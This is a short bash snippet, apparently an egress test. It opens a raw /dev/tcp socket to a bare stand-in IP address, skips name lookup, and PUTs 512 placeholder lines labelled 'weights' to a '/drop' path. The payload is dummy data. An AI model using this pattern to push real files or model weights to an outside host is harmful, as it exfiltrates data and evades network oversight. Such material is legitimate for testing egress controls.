# Data to a bare address, no name asked.
exec 3<>/dev/tcp/203.0.113.40/80 || exit 1
{ printf 'PUT /drop HTTP/1.1\r\nHost: 203.0.113.40\r\n\r\n'; printf 'weights %04d\n' {1..512}; } >&3
read -r -t 2 received <&3 || exit 1
echo "sink: $received"
